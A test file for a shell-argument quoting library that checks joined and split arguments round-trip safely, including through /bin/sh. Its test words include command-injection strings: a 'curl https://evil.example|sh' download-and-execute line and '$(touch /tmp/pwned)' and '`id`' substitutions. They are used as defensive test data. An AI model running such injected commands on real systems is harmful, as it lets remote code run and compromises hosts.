import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { joinArgv, splitArgv } from "../../src/lib/argv.ts";

const words = [
  "plain",
  "",
  "two words",
  "it's",
  "''",
  "docs;curl https://evil.example|sh;#",
  "$(touch /tmp/pwned)",
  "`id`",
  "$HOME",
  "a&b",
  "~",
  "*",
  "!!",
  "back\\slash",
  'say "hello"',
  "line\nbreak",
  "@scope/package@1.2",
];

describe("a command line made of words", () => {
  it.each(words)("is split into %j again", (word) => {
    expect(splitArgv(joinArgv(["plugboard", word, "end"]))).toEqual(["plugboard", word, "end"]);
  });

  it.skipIf(process.platform === "win32")("means the same words to a shell", () => {
    const line = joinArgv([
      process.execPath,
      "-e",
      "console.log(JSON.stringify(process.argv.slice(1)))",
      "--",
      ...words,
    ]);
    const said = execFileSync("/bin/sh", ["-c", line], { encoding: "utf8" });
    expect(JSON.parse(said)).toEqual(words);
  });
});
